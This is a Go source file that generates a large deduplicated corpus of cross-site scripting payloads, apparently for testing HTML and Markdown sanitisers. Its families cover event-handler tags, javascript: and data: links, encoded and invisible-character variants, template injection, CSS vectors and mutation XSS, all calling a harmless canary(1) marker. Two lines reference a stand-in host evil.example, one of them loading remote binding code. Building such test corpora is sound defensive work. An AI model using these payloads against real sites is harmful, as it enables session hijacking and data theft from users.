package main

import (
	"encoding/base64"
	"fmt"
	"html"
	"net/url"
	"slices"
	"strings"
)

// payloads are a thousand texts and more that run canary() on some page that
// prints or changes them carelessly. No two are the same.
func payloads() []string {
	var all []string
	for _, family := range [][]string{elements(), addresses(), encoded(elements()[:24]), templates(), unseen(), styles(), mutants(), marked()} {
		all = append(all, family...)
	}
	seen := map[string]bool{}
	return slices.DeleteFunc(all, func(p string) bool { was := seen[p]; seen[p] = true; return was })
}

// lively are elements that run something by themselves or when touched.
var lively = []string{
	`<script>canary(1)</script>`, `<ScRiPt/x>canary(1)</sCrIpT>`, `<img src=x onerror=canary(1)>`, `<IMG """><img src=/ onerror=canary(1)>`,
	`<svg onload=canary(1)>`, `<svg/onload=canary(1)//`, `<svg><script>canary(1)</script></svg>`, `<svg><animate onbegin=canary(1) attributeName=x dur=1s>`,
	`<math><maction actiontype="statusline" xlink:href="javascript:canary(1)">x</maction></math>`, `<details open ontoggle=canary(1)>x</details>`,
	`<video><source onerror=canary(1)></video>`, `<audio src=x onerror=canary(1)>`, `<input autofocus onfocus=canary(1)>`,
	`<select autofocus onfocus=canary(1)>`, `<textarea autofocus onfocus=canary(1)>`, `<iframe srcdoc="<script>parent.canary(1)</script>"></iframe>`,
	`<iframe src="javascript:parent.canary(1)"></iframe>`, `<object data="javascript:canary(1)"></object>`, `<embed src="javascript:canary(1)">`,
	`<body onload=canary(1)>`, `<marquee onstart=canary(1)>x</marquee>`, `<a href="javascript:canary(1)">x</a>`, `<form action="javascript:canary(1)"><button>x</button></form>`,
	`<button formaction="javascript:canary(1)">x</button>`, `<base href="javascript:/a/">`, `<meta http-equiv=refresh content="0;url=javascript:canary(1)">`,
	`<link rel=stylesheet href="data:text/css,*{}" onload=canary(1)>`, `<p onclick=canary(1) onmouseover=canary(1)>x</p>`, `<x contenteditable autofocus onfocus=canary(1)>`,
	`<keygen autofocus onfocus=canary(1)>`, `<dialog open onclose=canary(1)>x</dialog>`, `<image src=x onerror=canary(1)>`,
}

// breakers end what a text may stand in.
var breakers = []string{``, `">`, `'>`, "`>", `</textarea>`, `</title>`, `</script>`, `</style>`, `</noscript>`, `-->`, `]]>`, `</template>`, `"/>`, `</select></option>`, `" autofocus onfocus=canary(1) x="`, `' onpointerover='canary(1)`}

func elements() (all []string) {
	for _, b := range breakers {
		for _, e := range lively {
			all = append(all, b+e)
		}
	}
	return all
}

// addresses are links whose address is a program.
func addresses() (all []string) {
	page := base64.StdEncoding.EncodeToString([]byte(`<script>canary(1)</script>`))
	for _, to := range []string{"javascript:canary(1)", "JaVaScRiPt:canary(1)", "java\tscript:canary(1)", "\x01javascript:canary(1)", " javascript:canary(1)",
		"javascript&colon;canary(1)", "&#106;avascript:canary(1)", "&#x6A;avascript:canary(1)", "javascript&#0000058canary(1)", "java%0ascript:canary(1)",
		"javascript://%0acanary(1)", "javascript:/*https://debrief.example/*/canary(1)", "data:text/html;base64," + page, "data:image/svg+xml;base64," + page,
		"vbscript:canary(1)", "feed:javascript:canary(1)", "view-source:javascript:canary(1)", "//evil.example/\"onmouseover=canary(1)"} {
		for _, in := range []string{"[x](%s)", "[x](<%s>)", "![x](%s)", "<%s>", "[x][y]\n\n[y]: %s", "[x]: <%s> \"onclick=canary(1)\"", `<a href='%s'>x</a>`, `[x](%s "\"onmouseover=canary(1) y=\"")`, "%s"} {
			all = append(all, fmt.Sprintf(in, to))
		}
	}
	return all
}

// encoded are the same in writings that something may undo on the way.
func encoded(plain []string) (all []string) {
	for _, write := range []func(string) string{html.EscapeString, url.QueryEscape,
		func(s string) string { return url.QueryEscape(url.QueryEscape(s)) },
		func(s string) string { return html.EscapeString(html.EscapeString(s)) },
		func(s string) string { return strings.NewReplacer("<", `\u003c`, ">", `\u003e`).Replace(s) },
		func(s string) string { return strings.NewReplacer("<", `\x3c`, ">", `\x3e`).Replace(s) },
		func(s string) string { return strings.NewReplacer("<", "&#x3C", ">", "&#x3E").Replace(s) },
		func(s string) string { return strings.NewReplacer("<", "＜", ">", "＞").Replace(s) },
		func(s string) string { return "+ADw-" + s[1:] },
	} {
		for _, p := range plain {
			all = append(all, write(p))
		}
	}
	return all
}

// templates are for whatever fills in templates.
func templates() (all []string) {
	for _, in := range []string{"{{%s}}", "{{{%s}}}", "${%s}", "#{%s}", "<%%= %s %%>", "[[${%s}]]", "{%% %s %%}", "@(%s)", "*{%s}", "{{.%s}}", "`${%s}`", "<template>{{%s}}</template>"} {
		for _, run := range []string{"canary(1)", "constructor.constructor('canary(1)')()", "$on.constructor('canary(1)')()"} {
			all = append(all, fmt.Sprintf(in, run))
		}
	}
	return all
}

// unseen have signs in them that nobody sees.
func unseen() (all []string) {
	for _, sign := range []string{"\u202e", "\u200b", "\u200d", "\ufeff", "\u2028", "\u2066", "\u00ad", "\x0c", "\u0000", "\u034f"} {
		for _, p := range []string{`<scr%sipt>canary(1)</script>`, `<%simg src=x onerror=canary(1)>`, `<img%ssrc=x onerror=canary(1)>`, `<img src=x onerror%s=canary(1)>`, `[x](java%sscript:canary(1))`, `%s<svg onload=canary(1)>`} {
			all = append(all, fmt.Sprintf(p, strings.ReplaceAll(sign, "\u0000", "\ufffd")))
		}
	}
	return all
}

func styles() (all []string) {
	for _, rule := range []string{`@import "javascript:canary(1)";`, `*{background:url("javascript:canary(1)")}`, `x{animation:x}@keyframes x{}`, `*{width:expression(canary(1))}`, `*{-moz-binding:url(//evil.example/x.xml#x)}`} {
		all = append(all, "<style>"+rule+"</style>", `<p style="`+html.EscapeString(rule)+`">x</p>`, "</style><style>"+rule, `<x style="animation-name:x" onanimationstart=canary(1)><style>`+rule+"</style>")
	}
	return all
}

// mutants become something else when a browser reads them twice.
func mutants() (all []string) {
	for _, p := range []string{`<noscript><p title="</noscript>%s">`, `<svg></p><style><a id="</style>%s">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;%s">`,
		`<form><math><mtext></form><form><mglyph><style></math>%s`, `<template><p title="</template>%s">`, `<svg><desc><![CDATA[</desc>%s]]></svg>`, `<listing>%s</listing>`,
		`<xmp><p title="</xmp>%s">`, `<textarea><p title="</textarea>%s">`, `<select><iframe></select>%s`, `<!--><p title="-->%s">`, `<svg><foreignobject><style><p title="</style>%s">`, `<noembed><p title="</noembed>%s">`} {
		for _, e := range lively[2:8] {
			all = append(all, fmt.Sprintf(p, e))
		}
	}
	return all
}

// marked are made of what Markdown takes from its writer.
func marked() (all []string) {
	for _, in := range []string{"# %s", "> %s", "- [ ] %s", "1. %s", "| a |\n|---|\n| %s |", "```\n%s\n```", "``%s``", "**%s**", "~~%s~~", "<div>\n\n%s\n\n</div>", "\\%s", "<!-- x --!>%s", "[%s](x)", "![%s](x)", "[x](y '%s')", "---\ntitle: %s\n---"} {
		for _, e := range lively[:6] {
			all = append(all, fmt.Sprintf(in, e))
		}
	}
	return all
}
